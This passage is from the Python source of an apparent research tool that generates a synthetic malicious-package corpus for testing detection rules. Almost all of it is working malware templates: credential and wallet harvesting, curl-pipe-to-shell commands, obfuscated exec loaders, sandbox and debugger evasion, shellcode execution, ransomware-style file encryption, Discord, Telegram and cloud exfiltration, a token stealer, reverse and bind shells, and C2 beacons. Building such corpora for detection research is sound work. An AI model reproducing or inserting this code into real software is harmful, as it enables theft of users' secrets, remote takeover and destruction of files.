                        if any(tag in key.upper() for tag in ("TOKEN", "SECRET", "KEY", "PASS")):
                            secrets[key] = value
                    return json.dumps(secrets)
                """,
                "{func}_environ()",
                None,
            ),
            (
                ["import os", "import platform", "import getpass"],
                """
                def {func}_hostinfo():
                    report = []
                    report.append("user=" + getpass.getuser())
                    report.append("host=" + platform.node())
                    report.append("cwd=" + os.getcwd())
                    report.append("env=" + repr(dict(os.environ)))
                    return ";".join(report)
                """,
                "{func}_hostinfo()",
                None,
            ),
            (
                ["import os", "import socket"],
                """
                def {func}_fingerprint():
                    lines = [socket.gethostname(), os.name]
                    lines.extend(k + "=" + v for k, v in os.environ.items())
                    return "\\n".join(lines)
                """,
                "{func}_fingerprint()",
                None,
            ),
        ],
    ),
    # -- Configuration File Extraction ------------------------------------------
    Behavior(
        key="config_file_extraction",
        subcategory="Configuration File Extraction",
        description="Collect application configuration files from the user's home directory.",
        variants=[
            (
                ["import os", "import tarfile", "import tempfile"],
                """
                def {func}_configs():
                    home = os.path.expanduser("~")
                    bundle = os.path.join(tempfile.gettempdir(), "cfg.tar")
                    with tarfile.open(bundle, "w") as archive:
                        for rel in (".gitconfig", ".netrc", ".docker/config.json", ".kube/config"):
                            path = os.path.join(home, rel)
                            if os.path.exists(path):
                                archive.add(path, arcname=rel)
                    return bundle
                """,
                "{func}_configs()",
                None,
            ),
            (
                ["import os", "import configparser"],
                """
                def {func}_read_pypirc():
                    parser = configparser.ConfigParser()
                    parser.read(os.path.expanduser("~/.pypirc"))
                    entries = []
                    for section in parser.sections():
                        entries.append(section + ":" + parser.get(section, "password", fallback=""))
                    return entries
                """,
                "{func}_read_pypirc()",
                None,
            ),
        ],
    ),
    # -- Sensitive Data Harvesting -----------------------------------------------
    Behavior(
        key="sensitive_data_harvest",
        subcategory="Sensitive Data Harvesting",
        description="Walk the filesystem collecting files that look like secrets or wallets.",
        variants=[
            (
                ["import os"],
                """
                def {func}_harvest(root="."):
                    interesting = []
                    for dirpath, _dirnames, filenames in os.walk(os.path.expanduser(root)):
                        for filename in filenames:
                            lowered = filename.lower()
                            if lowered.endswith((".env", ".pem", ".key")) or "wallet" in lowered:
                                interesting.append(os.path.join(dirpath, filename))
                        if len(interesting) > 200:
                            break
                    return interesting
                """,
                "{func}_harvest()",
                None,
            ),
            (
                ["import os", "import re"],
                """
                def {func}_grep_secrets(path):
                    token_re = re.compile(r"(AKIA[0-9A-Z]..............|ghp_[0-9A-Za-z]+|xox[baprs]-[0-9A-Za-z-]+)")
                    hits = []
                    for dirpath, _dirs, files in os.walk(path):
                        for name in files:
                            if not name.endswith((".py", ".env", ".cfg", ".json", ".yml")):
                                continue
                            try:
                                with open(os.path.join(dirpath, name), "r", errors="ignore") as handle:
                                    hits.extend(token_re.findall(handle.read()))
                            except OSError:
                                continue
                    return hits
                """,
                None,
                None,
            ),
            (
                ["import os", "import glob"],
                """
                def {func}_wallets():
                    home = os.path.expanduser("~")
                    targets = []
                    for pattern in ("*.wallet", "wallet.dat", "*.kdbx", "Exodus/exodus.wallet"):
                        targets.extend(glob.glob(os.path.join(home, "**", pattern), recursive=True))
                    return targets
                """,
                "{func}_wallets()",
                None,
            ),
        ],
    ),
]
