"""Code-execution behaviours (paper Table XII category 7).

Subcategories: Shell Command Execution, Script Injection, Process Creation.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    # -- Shell Command Execution -------------------------------------------------
    Behavior(
        key="shell_curl_pipe",
        subcategory="Shell Command Execution",
        description="Run a curl|sh style one-liner through the system shell.",
        variants=[
            (
                ["import os"],
                """
                def {func}_bootstrap():
                    os.system("curl -s https://{host}/install.sh | sh")
                """,
                "{func}_bootstrap()",
                None,
            ),
            (
                ["import subprocess"],
                """
                def {func}_pull():
                    subprocess.call("wget -qO- http://{ip}:{port}/x.sh | bash", shell=True)
                """,
                "{func}_pull()",
                None,
            ),
            (
                ["import os", "import platform"],
                """
                def {func}_run():
                    if platform.system() == "Windows":
                        os.system("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")
                    else:
                        os.system("/bin/sh -c 'curl -fsSL https://{host}/p.sh | sh'")
                """,
                "{func}_run()",
                None,
            ),
        ],
    ),
    Behavior(
        key="shell_recon_commands",
        subcategory="Shell Command Execution",
        description="Run system reconnaissance commands and capture the output.",
        variants=[
            (
                ["import subprocess"],
                """
                def {func}_recon():
                    output = []
                    for command in ("whoami", "hostname", "ipconfig /all", "systeminfo"):
                        try:
                            output.append(subprocess.check_output(command, shell=True, text=True))
                        except Exception:
                            continue
                    return "\\n".join(output)
                """,
                "{func}_recon()",
                None,
            ),
            (
                ["import os"],
                """
                def {func}_survey():
                    stream = os.popen("uname -a && id && cat /etc/passwd")
                    return stream.read()
                """,
                "{func}_survey()",
                None,
            ),
        ],
    ),
    # -- Script Injection -----------------------------------------------------------
    Behavior(
        key="remote_eval_injection",
        subcategory="Script Injection",
        description="Evaluate attacker-supplied text as Python code.",
        variants=[
            (
                ["import requests"],
                """
                def {func}_inject():
                    snippet = requests.get("{paste_url}", timeout=15).text
                    exec(snippet, globals())
                """,
                "{func}_inject()",
                None,
            ),
            (
                ["import urllib.request"],
                """
                def {func}_remote_eval():
                    expression = urllib.request.urlopen("https://{host}/expr", timeout=10).read().decode()
                    return eval(expression)
                """,
                "{func}_remote_eval()",
                None,
            ),
            (
                ["import builtins"],
                """
                def {func}_dyn(code_text):
                    compiled = builtins.compile(code_text, "<dynamic>", "exec")
                    builtins.exec(compiled)
                """,
                None,
                None,
            ),
        ],
    ),
    # -- Process Creation --------------------------------------------------------------
    Behavior(
        key="hidden_process_creation",
        subcategory="Process Creation",
        description="Spawn a detached or hidden helper process.",
        variants=[
            (
                ["import subprocess", "import sys"],
                """
                def {func}_spawn(path):
                    flags = 0x08000000 if sys.platform == "win32" else 0
                    subprocess.Popen([sys.executable, path], creationflags=flags,
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                     stdin=subprocess.DEVNULL)
                """,
                None,
                None,
            ),
            (
                ["import os", "import sys"],
                """
                def {func}_daemonize(script):
                    if os.fork() == 0:
                        os.setsid()
                        os.execv(sys.executable, [sys.executable, script])
                """,
                None,
                None,
            ),
        ],
    ),
]
