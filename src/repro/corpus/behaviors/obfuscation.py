"""Obfuscation & anti-detection behaviours (paper Table XII category 5).

Subcategories: Code Obfuscation, Anti-Analysis Techniques, Sandbox Evasion,
String/Pattern Hiding.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    # -- Code Obfuscation ----------------------------------------------------------
    Behavior(
        key="base64_exec_payload",
        subcategory="Code Obfuscation",
        description="Execute a base64-encoded payload at import time.",
        variants=[
            (
                ["import base64"],
                """
                def {func}_unpack():
                    blob = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="
                    exec(base64.b64decode(blob).decode())
                """,
                "{func}_unpack()",
                None,
            ),
            (
                ["import base64", "import zlib"],
                """
                def {func}_inflate():
                    packed = b"eJwLycgsVgCiRIWS1OISPQBCuwXG"
                    code = zlib.decompress(base64.b64decode(packed))
                    exec(compile(code, "<packed>", "exec"))
                """,
                "{func}_inflate()",
                None,
            ),
            (
                ["import codecs", "import marshal"],
                """
                def {func}_load():
                    raw = codecs.decode("696d706f7274206f73", "hex")
                    payload = marshal.loads(bytes(raw)) if raw[:1] == b"c" else raw
                    exec(payload)
                """,
                None,
                None,
            ),
        ],
    ),
    Behavior(
        key="lambda_obfuscation",
        subcategory="Code Obfuscation",
        description="Heavily nested lambda / getattr indirection hiding the real call.",
        variants=[
            (
                ["import builtins"],
                """
                def {func}_indirect():
                    loader = getattr(builtins, "".join(["e", "x", "e", "c"]))
                    importer = getattr(builtins, "__import__")
                    module = importer("os")
                    loader("module.system('echo synced')", dict(module=module))
                """,
                "{func}_indirect()",
                None,
            ),
            (
                [],
                """
                def {func}_chain():
                    op = (lambda a: lambda b: a(b))(eval)
                    return op("__import__('platform').node()")
                """,
                "{func}_chain()",
                None,
            ),
        ],
    ),
    Behavior(
        key="evasive_custom_loader",
        subcategory="Code Obfuscation",
        description=(
            "Fully custom loader that avoids the idioms string rules key on: "
            "builtins looked up by concatenated names, payload hidden in hex digit pairs."
        ),
        weight=0.35,
        variants=[
            (
                [],
                """
                def {func}_stage():
                    h = "696d706f7274206f733b6f732e676574637764282929"
                    parts = [int(h[i:i + 2], 16) for i in range(0, len(h), 2)]
                    runner = getattr(__builtins__, "ev" + "al", None) or eval
                    maker = getattr(__builtins__, "co" + "mpile")
                    body = bytes(parts).decode("latin-1")
                    runner(maker(body, "<s>", "ev" + "al"))
                """,
                "{func}_stage()",
                None,
            ),
            (
                [],
                """
                def {func}_carrier(seedval=17):
                    table = [103, 108, 111, 98, 97, 108, 115]
                    label = bytes(table).decode()
                    scope = globals().get(label[:7], None)
                    blob = bytes((112, 114, 105, 110, 116)).decode()
                    return scope, blob, seedval * 3
                """,
                "{func}_carrier()",
                None,
            ),
        ],
    ),
    # -- Anti-Analysis Techniques ------------------------------------------------------
    Behavior(
        key="debugger_detection",
        subcategory="Anti-Analysis Techniques",
        description="Abort when a debugger or tracer is attached.",
        variants=[
            (
                ["import sys", "import os"],
                """
                def {func}_guard():
                    if sys.gettrace() is not None:
                        os._exit(0)
                    if os.getenv("PYTHONBREAKPOINT"):
                        os._exit(0)
                    return True
                """,
                "{func}_guard()",
                None,
            ),
            (
                ["import sys", "import time"],
                """
                def {func}_timing_check():
                    start = time.perf_counter()
                    for _ in range(10000):
                        pass
                    if time.perf_counter() - start > 0.5:
                        sys.exit(0)
                """,
                "{func}_timing_check()",
                None,
            ),
            (
                ["import ctypes", "import sys"],
                """
                def {func}_isdebugged():
                    if sys.platform == "win32":
                        if ctypes.windll.kernel32.IsDebuggerPresent():
                            raise SystemExit(0)
                    return False
                """,
                "{func}_isdebugged()",
                None,
            ),
        ],
    ),
    # -- Sandbox Evasion ------------------------------------------------------------------
    Behavior(
        key="sandbox_vm_check",
        subcategory="Sandbox Evasion",
        description="Refuse to run inside virtual machines or analysis sandboxes.",
        variants=[
            (
                ["import platform", "import os", "import uuid"],
                """
                def {func}_vmcheck():
                    mac = uuid.getnode()
                    vendor_prefixes = (0x000C29, 0x001C14, 0x080027, 0x0A0027)
                    if any((mac >> 24) == prefix for prefix in vendor_prefixes):
                        os._exit(0)
                    hostname = platform.node().lower()
                    if any(tag in hostname for tag in ("sandbox", "analysis", "virus", "malware")):
                        os._exit(0)
                """,
                "{func}_vmcheck()",
                None,
            ),
            (
                ["import os", "import multiprocessing"],
                """
                def {func}_resources_check():
                    if multiprocessing.cpu_count() < 2:
                        os._exit(0)
                    if os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"):
                        os._exit(0)
                """,
                "{func}_resources_check()",
                None,
            ),
        ],
    ),
    # -- String/Pattern Hiding ----------------------------------------------------------------
    Behavior(
        key="string_hiding",
        subcategory="String/Pattern Hiding",
        description="Assemble sensitive strings at runtime from character codes.",
        variants=[
            (
                [],
                """
                def {func}_decode():
                    host = "".join(chr(c) for c in (104, 116, 116, 112, 58, 47, 47, 101, 118, 105, 108))
                    scheme = "".join(map(chr, [104, 116, 116, 112, 115]))
                    return scheme + host
                """,
                "{func}_decode()",
                None,
            ),
            (
                ["import codecs"],
                """
                def {func}_rot():
                    hidden = codecs.decode("uggcf://rivy.rknzcyr.pbz/tngr", "rot13")
                    return hidden[::-1][::-1]
                """,
                "{func}_rot()",
                None,
            ),
            (
                [],
                """
                def {func}_xor(data, key=0x42):
                    return bytes(b ^ key for b in data)
                """,
                None,
                None,
            ),
        ],
    ),
]
