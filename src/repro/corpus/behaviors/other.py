"""Catch-all behaviours (paper Table XII category 10, "Other Rules").

Suspicious-but-hard-to-classify code: odd import-time side effects and
ambiguous telemetry that the taxonomy classifier files under "Unknown or
Undetermined".
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    Behavior(
        key="ambiguous_telemetry",
        subcategory="Unknown or Undetermined",
        description="Import-time 'telemetry' whose purpose is unclear.",
        variants=[
            (
                ["import uuid", "import hashlib"],
                """
                def {func}_fingerprint_id():
                    raw = str(uuid.getnode()) + "|{marker}"
                    token = hashlib.md5(raw.encode()).hexdigest()
                    globals()["__install_id__"] = token
                    return token
                """,
                "{func}_fingerprint_id()",
                None,
            ),
            (
                ["import atexit", "import os"],
                """
                def {func}_atexit_probe():
                    def _probe():
                        flag = os.path.join(os.path.expanduser("~"), ".{var}_seen")
                        with open(flag, "w") as handle:
                            handle.write("1")
                    atexit.register(_probe)
                """,
                "{func}_atexit_probe()",
                None,
            ),
        ],
    ),
]
