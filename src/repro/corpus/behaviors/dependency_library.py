"""Dependency-library abuse behaviours (paper Table XII category 2).

Subcategories: System Library Abuse, Network Library Misuse, Crypto Library
Exploitation, UI/Graphics Library Abuse.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    # -- System Library Abuse ----------------------------------------------------------
    Behavior(
        key="ctypes_shellcode",
        subcategory="System Library Abuse",
        description="Use ctypes to allocate executable memory and run shellcode.",
        variants=[
            (
                ["import ctypes"],
                """
                def {func}_loader(shellcode):
                    buf = ctypes.create_string_buffer(shellcode)
                    addr = ctypes.windll.kernel32.VirtualAlloc(0, len(shellcode), 0x3000, 0x40)
                    ctypes.windll.kernel32.RtlMoveMemory(addr, buf, len(shellcode))
                    handle = ctypes.windll.kernel32.CreateThread(0, 0, addr, 0, 0, 0)
                    ctypes.windll.kernel32.WaitForSingleObject(handle, -1)
                """,
                None,
                None,
            ),
            (
                ["import ctypes", "import ctypes.util"],
                """
                def {func}_dlopen():
                    libc = ctypes.CDLL(ctypes.util.find_library("c"))
                    libc.system(b"id > /tmp/.{var}")
                """,
                "{func}_dlopen()",
                None,
            ),
        ],
    ),
    # -- Network Library Misuse ---------------------------------------------------------
    Behavior(
        key="requests_raw_ip",
        subcategory="Network Library Misuse",
        description="Use an HTTP client library against a hard-coded raw IP endpoint.",
        variants=[
            (
                ["import requests"],
                """
                def {func}_report({var}):
                    requests.post("http://{ip}:{port}/log", data=dict(v={var}),
                                  verify=False, timeout=6)
                """,
                None,
                None,
            ),
            (
                ["import urllib3"],
                """
                def {func}_pool():
                    urllib3.disable_warnings()
                    http = urllib3.PoolManager(cert_reqs="CERT_NONE")
                    return http.request("GET", "http://{ip}:{port}/cfg").data
                """,
                "{func}_pool()",
                None,
            ),
        ],
    ),
    # -- Crypto Library Exploitation -------------------------------------------------------
    Behavior(
        key="crypto_ransom_encrypt",
        subcategory="Crypto Library Exploitation",
        description="Encrypt user files with AES (ransomware-style).",
        variants=[
            (
                ["from Crypto.Cipher import AES", "import os"],
                """
                def {func}_lock(path, key):
                    cipher = AES.new(key, AES.MODE_EAX)
                    for dirpath, _dirs, files in os.walk(path):
                        for name in files:
                            if name.endswith((".docx", ".xlsx", ".jpg", ".pdf")):
                                full = os.path.join(dirpath, name)
                                with open(full, "rb") as handle:
                                    data = handle.read()
                                ciphertext, tag = cipher.encrypt_and_digest(data)
                                with open(full + ".locked", "wb") as handle:
                                    handle.write(cipher.nonce + tag + ciphertext)
                                os.remove(full)
                """,
                None,
                None,
            ),
            (
                ["from cryptography.fernet import Fernet", "import os"],
                """
                def {func}_fernet(root):
                    key = Fernet.generate_key()
                    box = Fernet(key)
                    for dirpath, _dirs, files in os.walk(root):
                        for name in files:
                            full = os.path.join(dirpath, name)
                            with open(full, "rb") as handle:
                                blob = box.encrypt(handle.read())
                            with open(full, "wb") as handle:
                                handle.write(blob)
                    return key
                """,
                None,
                None,
            ),
        ],
    ),
    # -- UI/Graphics Library Abuse ------------------------------------------------------------
    Behavior(
        key="screenshot_capture",
        subcategory="UI/Graphics Library Abuse",
        description="Capture screenshots / clipboard contents for exfiltration.",
        variants=[
            (
                ["from PIL import ImageGrab", "import tempfile", "import os"],
                """
                def {func}_screen():
                    image = ImageGrab.grab()
                    target = os.path.join(tempfile.gettempdir(), "scr_{port}.png")
                    image.save(target)
                    return target
                """,
                "{func}_screen()",
                None,
            ),
            (
                ["import tkinter"],
                """
                def {func}_clipboard():
                    root = tkinter.Tk()
                    root.withdraw()
                    try:
                        return root.clipboard_get()
                    except tkinter.TclError:
                        return ""
                    finally:
                        root.destroy()
                """,
                "{func}_clipboard()",
                None,
            ),
        ],
    ),
]
