"""Application-abuse behaviours (paper Table XII category 8).

Subcategories: Messaging Platform Abuse, Social Media API Exploitation,
Cloud Service Misuse, Development Tool Abuse.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    # -- Messaging Platform Abuse -------------------------------------------------------
    Behavior(
        key="discord_webhook_exfil",
        subcategory="Messaging Platform Abuse",
        description="Exfiltrate stolen data through a Discord webhook.",
        variants=[
            (
                ["import requests", "import platform"],
                """
                def {func}_notify({var}):
                    hook = "{webhook}"
                    content = "new victim: " + platform.node() + "\\n" + str({var})[:1800]
                    requests.post(hook, json=dict(content=content), timeout=10)
                """,
                None,
                None,
            ),
            (
                ["import json", "import urllib.request"],
                """
                def {func}_hook({var}):
                    body = json.dumps(dict(username="grabber", content=str({var}))).encode()
                    req = urllib.request.Request("{webhook}", data=body,
                                                 headers=dict(Content_Type="application/json"))
                    urllib.request.urlopen(req, timeout=10)
                """,
                None,
                None,
            ),
        ],
    ),
    Behavior(
        key="telegram_bot_exfil",
        subcategory="Messaging Platform Abuse",
        description="Send stolen data to a Telegram bot chat.",
        variants=[
            (
                ["import requests"],
                """
                def {func}_tg({var}):
                    token = "{telegram_token}"
                    api = "https://api.telegram.org/bot" + token + "/sendMessage"
                    requests.post(api, data=dict(chat_id="-100199", text=str({var})), timeout=10)
                """,
                None,
                None,
            ),
            (
                ["import urllib.parse", "import urllib.request"],
                """
                def {func}_tg_doc(path):
                    token = "{telegram_token}"
                    url = ("https://api.telegram.org/bot" + token + "/sendDocument?chat_id=-100199&caption="
                           + urllib.parse.quote(path))
                    urllib.request.urlopen(url, timeout=10)
                """,
                None,
                None,
            ),
        ],
    ),
    # -- Social Media API Exploitation -----------------------------------------------------
    Behavior(
        key="social_api_abuse",
        subcategory="Social Media API Exploitation",
        description="Use a social-media API as a covert channel / amplification.",
        variants=[
            (
                ["import requests"],
                """
                def {func}_dead_drop():
                    profile = requests.get("https://api.github.com/users/{var}-sync", timeout=10).json()
                    command = profile.get("bio", "")
                    return command
                """,
                "{func}_dead_drop()",
                None,
            ),
        ],
    ),
    # -- Cloud Service Misuse ------------------------------------------------------------------
    Behavior(
        key="cloud_bucket_exfil",
        subcategory="Cloud Service Misuse",
        description="Upload stolen data to attacker cloud storage / paste services.",
        variants=[
            (
                ["import boto3"],
                """
                def {func}_s3({var}):
                    client = boto3.client("s3", aws_access_key_id="AKIA3X7EXAMPLE9Q",
                                          aws_secret_access_key="V7rTq1ExampleSecret")
                    client.put_object(Bucket="drop-{var}", Key="dump.txt", Body=str({var}))
                """,
                None,
                None,
            ),
            (
                ["import requests"],
                """
                def {func}_transfer(path):
                    with open(path, "rb") as handle:
                        response = requests.put("https://transfer.sh/" + path.split("/")[-1],
                                                data=handle, timeout=30)
                    return response.text
                """,
                None,
                None,
            ),
        ],
    ),
    # -- Development Tool Abuse --------------------------------------------------------------------
    Behavior(
        key="devtool_token_abuse",
        subcategory="Development Tool Abuse",
        description="Steal developer-tool credentials (git, npm, docker) and CI secrets.",
        variants=[
            (
                ["import subprocess"],
                """
                def {func}_gitcreds():
                    output = subprocess.run("git config --global --list", shell=True,
                                            capture_output=True, text=True).stdout
                    helper = subprocess.run("git credential fill", shell=True, input="url=https://github.com\\n",
                                            capture_output=True, text=True).stdout
                    return output + helper
                """,
                "{func}_gitcreds()",
                None,
            ),
            (
                ["import os", "import json"],
                """
                def {func}_dockerauth():
                    config = os.path.expanduser("~/.docker/config.json")
                    if not os.path.isfile(config):
                        return dict()
                    with open(config, "r") as handle:
                        return json.load(handle).get("auths", dict())
                """,
                "{func}_dockerauth()",
                None,
            ),
        ],
    ),
]
