"""Behaviour registry: every malicious capability the corpus can inject.

``default_registry()`` assembles the full catalogue -- at least one behaviour
per Table XII subcategory -- which the malware generator samples from when it
designs families.
"""

from __future__ import annotations

from repro.corpus.behaviors import (
    application,
    dependency_library,
    execution,
    exfiltration,
    family,
    malicious_behavior,
    metadata_tricks,
    network,
    obfuscation,
    other,
    setup_code,
)
from repro.corpus.behaviors.base import (
    Behavior,
    BehaviorRegistry,
    RenderContext,
    RenderedBehavior,
    make_context,
)

_MODULES = (
    metadata_tricks,
    malicious_behavior,
    dependency_library,
    setup_code,
    network,
    obfuscation,
    exfiltration,
    execution,
    application,
    family,
    other,
)


def default_registry() -> BehaviorRegistry:
    """Build the registry containing every built-in behaviour."""
    registry = BehaviorRegistry()
    for module in _MODULES:
        registry.register_all(module.BEHAVIORS)
    return registry


__all__ = [
    "Behavior",
    "BehaviorRegistry",
    "RenderContext",
    "RenderedBehavior",
    "make_context",
    "default_registry",
]
