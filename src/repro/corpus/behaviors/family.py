"""Malware-family behaviours (paper Table XII category 9).

Subcategories: Known Trojan Families, Backdoor Families.

These are composite "signature" behaviours modelled on well-known OSS malware
families (W4SP-style stealers, reverse-shell backdoors).  They carry
distinctive marker strings so family-specific rules have something narrow to
latch onto -- matching the paper's observation that family rules have a very
small detection range.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    Behavior(
        key="trojan_stealer_family",
        subcategory="Known Trojan Families",
        description="A W4SP-style stealer: grabs tokens, browsers and exfiltrates in one pass.",
        variants=[
            (
                ["import os", "import re", "import requests"],
                """
                class WaspOperator:
                    HOOK = "{webhook}"
                    TOKEN_RE = re.compile(r"[\\w-]..........................\\.[\\w-]......\\.[\\w-]+")

                    def tokens(self):
                        roots = [os.path.join(os.path.expanduser("~"), "AppData/Roaming/discord/Local Storage/leveldb")]
                        found = []
                        for root in roots:
                            if not os.path.isdir(root):
                                continue
                            for name in os.listdir(root):
                                if name.endswith((".ldb", ".log")):
                                    with open(os.path.join(root, name), "r", errors="ignore") as handle:
                                        found.extend(self.TOKEN_RE.findall(handle.read()))
                        return found

                    def exfiltrate(self):
                        requests.post(self.HOOK, json=dict(content="\\n".join(self.tokens())), timeout=10)
                """,
                "WaspOperator().exfiltrate()",
                None,
            ),
            (
                ["import os", "import base64", "import requests"],
                """
                class CreamStealer:
                    GATE = "https://{host}/cream/gate.php"

                    def collect(self):
                        report = dict()
                        report["user"] = os.getenv("USERNAME", "")
                        report["injection"] = base64.b64encode(b"cream-inject-v2").decode()
                        return report

                    def ship(self):
                        requests.post(self.GATE, json=self.collect(), timeout=10)
                """,
                "CreamStealer().ship()",
                None,
            ),
        ],
    ),
    Behavior(
        key="backdoor_reverse_shell",
        subcategory="Backdoor Families",
        description="Classic reverse-shell backdoor bound to an attacker host.",
        variants=[
            (
                ["import socket", "import subprocess", "import os"],
                """
                def {func}_revshell():
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    s.connect(("{ip}", {port}))
                    os.dup2(s.fileno(), 0)
                    os.dup2(s.fileno(), 1)
                    os.dup2(s.fileno(), 2)
                    subprocess.call(["/bin/sh", "-i"])
                """,
                "{func}_revshell()",
                None,
            ),
            (
                ["import socket", "import subprocess", "import threading"],
                """
                class BindShell:
                    def __init__(self, port={port}):
                        self.port = port

                    def serve(self):
                        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                        listener.bind(("0.0.0.0", self.port))
                        listener.listen(1)
                        conn, _addr = listener.accept()
                        while True:
                            command = conn.recv(1024).decode().strip()
                            if command == "exit":
                                break
                            output = subprocess.run(command, shell=True, capture_output=True)
                            conn.sendall(output.stdout + output.stderr)

                    def start(self):
                        threading.Thread(target=self.serve, daemon=True).start()
                """,
                "BindShell().start()",
                None,
            ),
        ],
    ),
]
