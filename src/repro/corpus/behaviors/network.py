"""Network-related behaviours (paper Table XII category 4).

Subcategories: C2 Communication, Data Exfiltration Channels, Malicious
Downloads, DNS/Protocol Abuse.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    # -- C2 Communication ----------------------------------------------------
    Behavior(
        key="c2_socket_beacon",
        subcategory="C2 Communication",
        description="Beacon to a command-and-control server over a raw TCP socket.",
        variants=[
            (
                ["import socket", "import platform", "import getpass"],
                """
                def {func}_beacon():
                    info = platform.node() + '|' + getpass.getuser() + '|' + platform.system()
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    try:
                        s.connect(("{ip}", {port}))
                        s.sendall(info.encode())
                        command = s.recv(4096).decode()
                        return command
                    except OSError:
                        return None
                    finally:
                        s.close()
                """,
                "{func}_beacon()",
                None,
            ),
            (
                ["import socket", "import time", "import os"],
                """
                def {func}_loop():
                    while True:
                        try:
                            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                            s.connect(("{host}", {port}))
                            s.sendall(os.getenv("USERNAME", "unknown").encode())
                            task = s.recv(1024)
                            s.close()
                            if task:
                                return task.decode()
                        except OSError:
                            time.sleep(30)
                            continue
                        time.sleep(300)
                """,
                None,
                None,
            ),
            (
                ["import http.client", "import json", "import platform"],
                """
                def {func}_poll():
                    conn = http.client.HTTPSConnection("{host}")
                    body = json.dumps([platform.node(), platform.machine(), platform.release()])
                    conn.request("POST", "/gate.php", body)
                    reply = conn.getresponse().read()
                    conn.close()
                    return reply
                """,
                "{func}_poll()",
                None,
            ),
        ],
    ),
    Behavior(
        key="c2_http_tasking",
        subcategory="C2 Communication",
        description="Poll an HTTP C2 endpoint for tasks and report results.",
        variants=[
            (
                ["import requests", "import uuid"],
                """
                def {func}_task():
                    bot_id = str(uuid.getnode())
                    r = requests.get("{url}", params=dict(id=bot_id), timeout=10)
                    if r.status_code == 200 and r.text:
                        output = eval(r.text)
                        requests.post("{url}", data=str(output), timeout=10)
                """,
                "{func}_task()",
                None,
            ),
            (
                ["import urllib.request", "import platform"],
                """
                def {func}_checkin():
                    agent = platform.platform()
                    req = urllib.request.Request("{url}", data=agent.encode(),
                                                 headers=dict(Authorization="Bearer bot"))
                    with urllib.request.urlopen(req, timeout=15) as resp:
                        return resp.read()
                """,
                "{func}_checkin()",
                None,
            ),
        ],
    ),
    # -- Data Exfiltration Channels -------------------------------------------
    Behavior(
        key="exfil_http_post",
        subcategory="Data Exfiltration Channels",
        description="POST harvested data to an attacker-controlled endpoint.",
        variants=[
            (
                ["import requests", "import json", "import os"],
                """
                def {func}_upload({var}):
                    blob = json.dumps(dict(host=os.getenv("COMPUTERNAME", ""), data={var}))
                    try:
                        requests.post("{url}", data=blob,
                                      headers=dict(Content_Type="application/json"), timeout=8)
                    except Exception:
                        pass
                """,
                None,
                None,
            ),
            (
                ["import urllib.request", "import base64"],
                """
                def {func}_send({var}):
                    encoded = base64.b64encode({var}.encode()).decode()
                    req = urllib.request.Request("http://{ip}:{port}/upload", data=encoded.encode())
                    urllib.request.urlopen(req, timeout=10)
                """,
                None,
                None,
            ),
            (
                ["import socket"],
                """
                def {func}_push({var}):
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    for i in range(0, len({var}), 400):
                        s.sendto({var}[i:i + 400].encode(), ("{ip}", {port}))
                    s.close()
                """,
                None,
                None,
            ),
        ],
    ),
    # -- Malicious Downloads ---------------------------------------------------
    Behavior(
        key="download_second_stage",
        subcategory="Malicious Downloads",
        description="Download a second-stage payload and execute it.",
        variants=[
            (
                ["import urllib.request", "import os", "import tempfile"],
                """
                def {func}_stage2():
                    target = os.path.join(tempfile.gettempdir(), "{var}.exe")
                    urllib.request.urlretrieve("https://{host}/dl/{var}.exe", target)
                    os.startfile(target) if hasattr(os, "startfile") else os.system(target)
                """,
                "{func}_stage2()",
                None,
            ),
            (
                ["import requests", "import subprocess", "import tempfile", "import os"],
                """
                def {func}_dropper():
                    r = requests.get("{paste_url}", timeout=20)
                    script = os.path.join(tempfile.gettempdir(), "u{port}.py")
                    with open(script, "w") as handle:
                        handle.write(r.text)
                    subprocess.Popen(["python", script], stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
                """,
                "{func}_dropper()",
                None,
            ),
            (
                ["import urllib.request"],
                """
                def {func}_fetch_exec():
                    code = urllib.request.urlopen("https://{host}/boot.py", timeout=20).read()
                    exec(compile(code, "<remote>", "exec"))
                """,
                "{func}_fetch_exec()",
                None,
            ),
        ],
    ),
    # -- DNS/Protocol Abuse -----------------------------------------------------
    Behavior(
        key="dns_tunnel_exfil",
        subcategory="DNS/Protocol Abuse",
        description="Exfiltrate data through DNS lookups of encoded subdomains.",
        variants=[
            (
                ["import socket", "import base64"],
                """
                def {func}_dns({var}):
                    chunks = base64.b32encode({var}.encode()).decode().strip("=").lower()
                    for i in range(0, len(chunks), 40):
                        label = chunks[i:i + 40]
                        try:
                            socket.gethostbyname(label + ".{host}")
                        except socket.gaierror:
                            pass
                """,
                None,
                None,
            ),
            (
                ["import socket"],
                """
                def {func}_resolve_gate():
                    try:
                        answer = socket.gethostbyname("cmd.{host}")
                        return answer
                    except socket.gaierror:
                        return None
                """,
                "{func}_resolve_gate()",
                None,
            ),
        ],
    ),
]
