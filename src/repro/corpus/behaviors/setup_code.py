"""Setup-code behaviours (paper Table XII category 3).

Subcategories: Malicious Setup Scripts, Build Process Manipulation,
Installation Hook Abuse, Configuration Tampering.

These behaviours contribute a ``setup_snippet`` which the package builder
injects into ``setup.py`` -- the classic install-time attack vector in the
PyPI ecosystem.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
